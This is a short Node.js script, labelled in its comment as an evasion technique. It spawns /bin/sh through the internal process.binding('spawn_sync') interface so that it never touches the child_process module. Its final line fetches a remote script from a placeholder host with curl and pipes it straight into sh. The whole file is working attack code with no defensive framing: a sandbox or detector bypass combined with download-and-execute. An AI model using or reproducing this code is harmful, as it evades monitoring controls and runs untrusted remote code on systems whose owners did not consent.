// Evasion: runs /bin/sh through the internal spawn_sync binding
// (process.binding), never touching the child_process module.
'use strict';
const binding = process.binding('spawn_sync');

function run(cmd) {
  const opts = {
    file: '/bin/sh',
    args: ['sh', '-c', cmd],
    envPairs: Object.entries(process.env).map(([k, v]) => `${k}=${v}`),
    stdio: [
      { type: 'pipe', readable: true, writable: false },
      { type: 'pipe', readable: false, writable: true },
      { type: 'pipe', readable: false, writable: true },
    ],
  };
  const r = binding.spawn(opts);
  return r.output && r.output[1] ? r.output[1].toString() : '';
}

process.stdout.write(run('curl -s https://x.example.net/p | sh'));
